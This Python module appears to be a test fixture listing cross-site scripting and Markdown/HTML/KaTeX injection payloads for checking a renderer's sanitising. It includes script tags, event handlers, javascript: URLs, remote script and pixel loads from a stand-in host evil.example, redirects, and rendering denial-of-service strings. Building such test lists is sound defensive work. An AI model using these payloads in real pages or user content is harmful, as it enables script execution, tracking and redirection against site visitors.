"""Text that would do harm where a page took it for more than text.

Each tries to set ``window.pwned``, to ask evil.example for something, to leave the page, or to change how the rest of
it looks. After OWASP's filter evasion list and what Markdown, highlighters and KaTeX have let through elsewhere.
"""

from __future__ import annotations

from typing import Final

_RUN = "window.pwned=1"
_EVIL = "https://evil.example"

#: Where Markdown is formatted, in titles, in names: everywhere.
PAYLOADS: Final = (
    # HTML
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script src={_EVIL}/x.js></script>",
    f"<script/src='{_EVIL}/x.js'></script>",
    f"<<script>{_RUN}//<</script>",
    f"</article></li></ol><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'",
    f"<img src={_EVIL}/pixel.png>",
    f"<img srcset='{_EVIL}/pixel.png 1x'>",
    f"<picture><source srcset={_EVIL}/p.png><img></picture>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='{_EVIL}/x.swf'>",
    f"<video src={_EVIL}/x.mp4 autoplay onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN} autoplay></audio>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}><option>x</select>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href='javascript:{_RUN}' autofocus onfocus='{_RUN}'>x</a>",
    f"<form action='{_EVIL}'><button autofocus formaction='javascript:{_RUN}'>x</button></form>",
    f"<meta http-equiv=refresh content='0; url={_EVIL}'>",
    f"<base href='{_EVIL}/'>",
    f"<link rel=stylesheet href={_EVIL}/x.css>",
    f"<link rel=prefetch href={_EVIL}/x>",
    "<style>* { display: none !important }</style>",
    f"<style>@import '{_EVIL}/x.css';</style>",
    f'<div style="position:fixed;inset:0;background:url({_EVIL}/x)">over everything</div>',
    f"<template><script>{_RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><script>{_RUN}</script>]]>",
    "<plaintext>",
    "<dialog open>not of this page</dialog>",
    # Markdown links and images
    f"[press](javascript:{_RUN})",
    f"[press](JaVaScRiPt:{_RUN})",
    f"[press](java\tscript:{_RUN})",
    f"[press](&#106;avascript:{_RUN})",
    f"[press](javascript&colon;{_RUN})",
    f"[press](\x01javascript:{_RUN})",
    f"[press](vbscript:{_RUN})",
    f"[press](data:text/html,<script>{_RUN}</script>)",
    f'[press](//evil.example "onmouseover={_RUN}")',
    f"[press][1]\n\n[1]: javascript:{_RUN}",
    f"<javascript:{_RUN}>",
    f"![seen]({_EVIL}/pixel.png)",
    "![seen](//evil.example/pixel.png)",
    f"![x](data:image/svg+xml,<svg onload={_RUN}>)",
    f'![x]({_EVIL}/x.png"onerror="{_RUN})',
    f"[![seen]({_EVIL}/pixel.png)](javascript:{_RUN})",
    f"![x][img]\n\n[img]: {_EVIL}/pixel.png",
    # Code
    f"```html\n<script>{_RUN}</script>\n<img src=x onerror={_RUN}>\n```",
    f'```"><img src=x onerror={_RUN}>\nx\n```',
    f"```__proto__\n<img src=x onerror={_RUN}>\n```",
    "```constructor\nx\n```",
    f"`<img src=x onerror={_RUN}>`",
    # Tables, lists, footnotes
    f"|a|b|\n|-|-|\n|<img src=x onerror={_RUN}>|[x](javascript:{_RUN})|",
    f"- [ ] <input onfocus={_RUN} autofocus>",
    f"x[^1]\n\n[^1]: <img src=x onerror={_RUN}>",
    # Formulas
    rf"$$\href{{javascript:{_RUN}}}{{x}}$$",
    rf"$$\url{{javascript:{_RUN}}}$$",
    rf"$$\htmlStyle{{position:fixed;inset:0;background:url({_EVIL}/x)}}{{x}}$$",
    rf"$$\includegraphics{{{_EVIL}/pixel.png}}$$",
    r"$$\rule{9999em}{9999em}$$",
    r"$$\def\x{\x\x}\x$$",
    rf"$$</span><img src=x onerror={_RUN}>$$",
    # Text that pretends to be elsewhere
    "\u202eevil\u202c \u2066over\u2069",
    "Z̷̢̛͎̲̗͖͚̈́̈́͆a̴̧̛̱̗̟͂̈́l̶̡̢̛͚̗͖͂g̷̢̛͎̲̗o",
)
